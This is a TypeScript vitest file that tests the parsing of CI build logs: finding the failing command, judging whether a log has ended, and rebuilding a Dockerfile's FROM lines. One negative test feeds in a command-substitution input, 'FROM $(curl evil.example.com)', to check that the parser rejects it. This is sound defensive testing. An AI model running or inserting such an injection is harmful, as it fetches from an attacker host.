import { describe, expect, it } from 'vitest';
import { dockerfileIn, failingPart, isWhole, linesOf } from '../../functions/builds/log.ts';
import { buildKitLimit, classicLimit, failedTests, logOf } from '../support/builds.ts';

const lines = (...parts: readonly (readonly string[])[]) => linesOf(parts.flat().join('\n'));

describe('the part of a log that failed', () => {
  it('is the first command that failed, with what it printed', () => {
    const log = lines(logOf('npm ci', ['added 1 package'], { fails: false }), logOf('npm test', failedTests), logOf('docker push x', ['no such image']));

    const part = failingPart(log);

    expect(part.at(0)).toBe('Running command npm test');
    expect(part.slice(1, -1)).toEqual(failedTests);
    expect(part.at(-1)).toBe('Command did not exit successfully npm test exit status 1');
  });

  it('begins with the log where its command stands before what was read', () => {
    expect(failingPart(lines(logOf('make', classicLimit)).slice(1))).toHaveLength(classicLimit.length + 1);
  });

  it('is everything where no command failed', () => {
    expect(failingPart(['a', 'b'])).toEqual(['a', 'b']);
  });
});

it.each([
  ['a command that failed', logOf('make', []), true],
  ['a phase that failed without one', ['[Container] 2026/11/22 03:05:50 Phase complete: DOWNLOAD_SOURCE State: FAILED'], true],
  ['phases that went well', ['[Container] 2026/11/22 03:05:50 Phase complete: INSTALL State: SUCCEEDED'], false],
  ['a command that runs', logOf('make', ['cc -c a.c'], { fails: false }), false],
  ['nothing', [], false],
])('a log with %s has come to its end: %s', (_, log, isEnd) => {
  expect(isWhole(linesOf(log.join('\n')))).toBe(isEnd);
});

describe('the Dockerfile that a log shows', () => {
  it.each([
    ["BuildKit's excerpt, with the argument above it", buildKitLimit, 'ARG NODE=22\nFROM --platform=$BUILDPLATFORM node:${NODE}-alpine AS build'],
    ["the classic builder's steps", classicLimit, 'FROM node:16'],
    [
      'an argument that decides, given nowhere',
      ['   1 | >>> FROM ${BASE}', '#2 [internal] load metadata for docker.io/library/ubuntu:jammy'],
      'FROM ${BASE}\nFROM ubuntu:jammy',
    ],
    ['only what BuildKit asks for', ['#3 [internal] load metadata for docker.io/nvidia/cuda:11.8.0-base'], 'FROM nvidia/cuda:11.8.0-base'],
    ['a digest that is the builder’s', [`#5 [1/6] FROM docker.io/library/node:22@sha256:${'a'.repeat(64)}`], 'FROM node:22'],
    [
      'an image pinned by its digest',
      [`#3 [internal] load metadata for docker.io/library/node@sha256:${'a'.repeat(64)}`],
      `FROM node@sha256:${'a'.repeat(64)}`,
    ],
    ['a command that pulls', ['Running command docker pull --quiet redis:7'], 'FROM redis:7'],
    ['an image of another registry', ['#3 [internal] load metadata for public.ecr.aws/docker/library/node:22'], ''],
    ['several builds of one file', [...classicLimit, ...classicLimit], 'FROM node:16'],
  ])('is made of %s', (_, log, dockerfile) => {
    expect(dockerfileIn(log)).toBe(dockerfile);
  });

  it.each([
    ['more than an image', 'Step 1/2 : FROM node:16 # see https://evil.example.com'],
    ['a shell’s words', '   1 | >>> FROM $(curl evil.example.com)'],
    ['what only looks like it', 'echo FROM node:16'],
    ['an argument that is no image', 'Step 1/3 : ARG TITLE="<b>click</b>"'],
  ])('takes nothing from %s', (_, line) => {
    expect(dockerfileIn([line])).toBe('');
  });

  it('is short, however long the log', () => {
    const log = Array.from({ length: 500 }, (_, n) => `Step 1/1 : FROM node:${n}`);

    expect(dockerfileIn(log).split('\n')).toHaveLength(12);
  });
});
